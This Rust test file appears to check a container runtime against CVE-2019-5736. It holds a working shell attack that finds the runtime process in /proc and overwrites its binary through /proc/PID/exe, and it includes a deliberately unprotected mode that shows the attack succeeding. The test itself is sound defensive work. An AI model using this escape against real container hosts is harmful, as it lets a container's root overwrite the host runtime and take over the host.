//! CVE-2019-5736 against `stepbox oci`, from inside of a real container: somebody in it has everything that a container's
//! root can have, and is after the file of the runtime that runs a program there.
//!
//! ```text
//!   the attacker, in c1                      the runtime
//!   waits for a process of this name         exec c1 /evil          #!/proc/self/exe
//!                                            exec c1 /proc/self/exe
//!                                            create, start c2       the same as its program, in c1's PID namespace
//!   open(/proc/PID/exe, O_RDONLY) = 9        exec c1 true           itself, until it executes that
//!                                            create c2              itself, while it waits to be started
//!   open(/proc/self/fd/9, O_WRONLY)          … runs
//!   open(/proc/self/fd/9, O_WRONLY)          … has ended: nobody executes the file any more
//! ```
//!
//! A container that is run at once, alone in its PID namespace, has nobody in it who could look: there the box leaves the
//! runtime's file behind, and what an image executes once more is a file of memory that ends by itself.
//!
//! Each attack is played on two runtimes: the real one, and this test as one that does nothing against it, whose file must
//! be changed: so what fails against the first is the attack that it claims to be. The image makes the runtime's file,
//! executed in there, wait for a fifo that it is told to load as a library.

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use serde_json::{Value, json};
use stepbox::closure;
use stepbox::oci::create::{Request, When};
use stepbox::oci::log::Log;
use stepbox::oci::state::Root;
use stepbox::oci::{exec, run};

use support::bundle::Bundles;
use support::player;
use support::site::Site;

/// What runs in c1: whoever has the name `$1` is opened, and written to, while it runs and after that.
const ATTACK: &str = r#"
attack() (
    exec 9<$1/exe || exit 1
    sha256sum <&9 >/loot.new && mv /loot.new /loot.opened
    try() { { printf '#!/bin/evil' >/proc/self/fd/9; } 2>&1 && echo written; }
    echo "while: $(try)" >/loot.new
    [ $2 = engine ] || : >/stall
    while [ -e $1/stat ]; do sleep 0.05; done
    for i in $(seq 100); do
        answer=$(try)
        case $answer in *busy*) sleep 0.1;; *) break;; esac
    done
    echo "after: $answer" >>/loot.new
    mv /loot.new /loot
)
while :; do
    for p in /proc/[0-9]*; do
        read name <$p/comm && [ "$name" = $1 ] && attack $p $1 && exit
    done 2>/dev/null
done
"#;

/// Everything that could help.
const CAPABILITIES: [&str; 8] = [
    "CAP_SYS_PTRACE",
    "CAP_SYS_ADMIN",
    "CAP_DAC_OVERRIDE",
    "CAP_DAC_READ_SEARCH",
    "CAP_FOWNER",
    "CAP_CHOWN",
    "CAP_SETUID",
    "CAP_KILL",
];

/// A way to have the runtime's file executed in a container, and the name that the process has then.
struct Way {
    name: &'static str,
    process: &'static str,
    /// what the runtime is told
    command: &'static str,
    /// what lets it end
    end: &'static str,
    /// needs a PID namespace that two containers share, and so root
    shared: bool,
}

const WAYS: [Way; 5] = [
    Way { name: "exec of a script", process: "evil", command: "exec c1 /evil", end: "", shared: false },
    Way {
        name: "exec of the link",
        process: "exe",
        command: "exec c1 /proc/self/exe",
        end: "",
        shared: false,
    },
    Way { name: "the program", process: "evil", command: "create c2", end: "$R start c2", shared: true },
    Way { name: "who is about to", process: "engine", command: "exec c1 /bin/true", end: "", shared: true },
    Way { name: "who waits", process: "engine", command: "create c2", end: "$R delete -f c2", shared: true },
];

fn main() {
    // executed in a container: it has waited, and is of no more use
    if std::env::var_os("LD_PRELOAD").is_some() {
        return;
    }
    let words: Vec<String> = std::env::args().skip(1).collect();
    if let [word, place, command @ ..] = &words[..]
        && word == "careless"
    {
        return careless(&PathBuf::from(place), command);
    }
    for (user, site) in [("ours", Site::ours()), ("nobody", Site::nobody())] {
        let bundles = Bundles::at(site);
        prepare(&bundles);
        for way in WAYS.iter().filter(|way| bundles.site.is_root() || !way.shared) {
            let name = format!("{user}, {}", way.name);
            fails(&name, &play(&bundles, way, "careful"));
            succeeds(&name, &play(&bundles, way, "careless"));
            println!("{name}: reaches the runtime's file, and cannot write to it");
        }
        for program in ["/evil", "/proc/self/exe"] {
            alone(&bundles, program);
            println!("{user}, run of {program}: reaches nothing of the runtime's");
        }
    }
}

/// A runtime that lets its own file be executed.
fn careless(place: &std::path::Path, command: &[String]) {
    let (root, path) = (Root(place.join("oci")), std::env::var("PATH").unwrap_or_default());
    match command {
        [word, id] if word == "create" => {
            let bundle = place.join(id);
            let request = Request { id: id.clone(), bundle, when: When::Started, path, ..Request::default() };
            run::go(&root, request, false, &mut Log::default()).expect("it is created");
        }
        [word, id, program] if word == "exec" => {
            let container = root.find(id).expect("it runs");
            let env = vec![STALL.into()];
            let request =
                exec::Request { args: vec![program.clone()], env, path, ..exec::Request::default() };
            exec::exec(&container, request, &mut Log::default()).expect("it is run");
        }
        other => panic!("{other:?}"),
    }
}

const STALL: &str = "LD_PRELOAD=/stall";

fn prepare(bundles: &Bundles) {
    let home = bundles.site.root_directory();
    let program = |name: &str, text: &str| {
        let file = home.join("rootfs").join(name);
        std::fs::write(&file, text).expect("written");
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).expect("ours");
    };
    program("attack", ATTACK);
    program("evil", "#!/proc/self/exe\n");
    // the image brings what the runtime's file needs to be executed: the loader first of all
    let ours = std::env::current_exe().expect("this is a program");
    for program in [player::built("stepbox"), ours] {
        for library in closure::of(&program).expect("its libraries are here") {
            let copy = home.join("rootfs").join(library.strip_prefix("/").expect("absolute"));
            std::fs::create_dir_all(copy.parent().expect("a directory")).expect("made");
            std::fs::copy(&library, copy).expect("copied");
        }
    }
    let change = |config: &mut Value| {
        config["root"]["readonly"] = json!(false);
        let sets = ["bounding", "effective", "permitted"].map(|set| (set.to_string(), json!(CAPABILITIES)));
        config["process"]["capabilities"] = Value::Object(sets.into_iter().collect());
        config["process"]["env"] = json!(["PATH=/bin:/usr/bin"]);
    };
    bundles.bundle("c1", &["sh", "/attack", "WHOM"], change);
    bundles.bundle("c2", &["/evil"], |config| {
        change(config);
        config["process"]["env"] = json!([STALL]);
        for namespace in config["linux"]["namespaces"].as_array_mut().expect("a list") {
            if namespace["type"] == "pid" {
                namespace["path"] = json!("/proc/PID/ns/pid");
            }
        }
    });
    bundles.site.copy(&std::env::current_exe().expect("this is a program"), "careless");
}

/// Plays one attack on one runtime: what the attacker has seen and done, and what has become of the file.
fn play(bundles: &Bundles, way: &Way, engine: &str) -> String {
    // each with its own words for the same
    let command = match (engine, way.command.split_once(' ').expect("two words")) {
        ("careless", _) => format!("careless $B {}", way.command),
        (_, ("exec", rest)) => format!("oci --root $B/oci exec -e {STALL} {rest}"),
        (_, (_, id)) => format!("oci --root $B/oci create -b $B/{id} {id}"),
    };
    let file = if engine == "careless" { "$D/careless" } else { "$S" };
    let Way { process, end, .. } = way;
    // a moment is short: it comes again until the attacker has found it
    let again = if way.command.ends_with("true") { "until [ -e $B/rootfs/loot.opened ]; do" } else { "{" };
    let enough = if again == "{" { "}" } else { "n=$n.; [ ${#n} -lt 300 ] || break; done" };
    let wait = |file: &str| {
        format!("i=0; until [ -e $B/rootfs/{file} ] || [ $i = 1200 ]; do sleep 0.05; i=$((i+1)); done")
    };
    bundles.says(&format!(
        "cp {file} $B/engine; cp $B/engine $B/before; sha256sum <$B/engine\n\
         rm -f $B/rootfs/loot* $B/rootfs/stall; mkfifo $B/rootfs/stall; cp -r $B/c1 $B/a; cp -r $B/c2 $B/c2.kept\n\
         sed -i s/WHOM/{process}/ $B/a/config.json; $R run -d --pid-file $B/pid -b $B/a c1\n\
         sed -i \"s#/proc/PID/#/proc/$(cat $B/pid)/#\" $B/c2/config.json\n\
         {again} $B/engine {command} >$B/said 2>&1; {enough} & {end_now}\n\
         {opened}; {end_later}\n{loot}; wait $!\n\
         cat $B/rootfs/loot.opened $B/rootfs/loot; cmp -s $B/engine $B/before && echo same || cat $B/said >&2; head -c 11 $B/engine | grep -a evil\n\
         $R delete -f c2; $R delete -f c1; rm -r $B/a $B/c2; mv $B/c2.kept $B/c2; rm $B/engine $B/before; true",
        end_now = if *process == "engine" || end.is_empty() { String::new() } else { format!("wait $!; {end}") },
        end_later = if *process == "engine" { *end } else { "" },
        opened = wait("loot.opened"),
        loot = wait("loot"),
    ))
}

/// The runtime's file, executed in the container, would wait for the fifo; what is there ends at once, and in vain.
fn alone(bundles: &Bundles, program: &str) {
    let change = |config: &mut Value| {
        config["process"]["env"] = json!([STALL]);
        config["process"]["args"] = json!([program]);
    };
    bundles.bundle("c3", &[program], change);
    let said = bundles.says(
        "cp $S $B/engine; cp $B/engine $B/before; rm -f $B/rootfs/stall; mkfifo $B/rootfs/stall\n\
         timeout 20 $B/engine oci --root $B/oci run -b $B/c3 c3; echo $?\n\
         timeout 20 $B/engine oci --root $B/oci --debug --log $B/log run -b $B/c3 c3; echo $?\n\
         grep -o \"leave the engine's program behind\" $B/log; cmp $B/engine $B/before && echo same\n\
         rm $B/engine $B/before $B/log $B/rootfs/stall",
    );
    assert_eq!(said, "125\n125\nleave the engine's program behind\nsame\n", "{program}");
}

/// It has held the very file, and could not write to it at any time.
fn fails(name: &str, out: &str) {
    let lines: Vec<&str> = out.lines().collect();
    let [sum, opened, during, after, same] = lines[..] else { panic!("{name}: {out}") };
    assert_eq!((sum, same), (opened, "same"), "{name}: {out}");
    let refused = |answer: &str| !answer.contains("written");
    assert!(during.starts_with("while: ") && refused(during), "{name}: {out}");
    // the mount cannot be written through; or the copy in memory is sealed
    let words = ["Read-only file system", "Operation not permitted"];
    assert!(after.starts_with("after: ") && words.iter().any(|word| after.contains(word)), "{name}: {out}");
}

/// The same attack on a file that nobody protects.
fn succeeds(name: &str, out: &str) {
    let lines: Vec<&str> = out.lines().collect();
    let [sum, opened, _, after, text] = lines[..] else { panic!("{name}: the attack does not work: {out}") };
    assert_eq!((sum, after, text), (opened, "after: written", "#!/bin/evil"), "{name}: {out}");
}
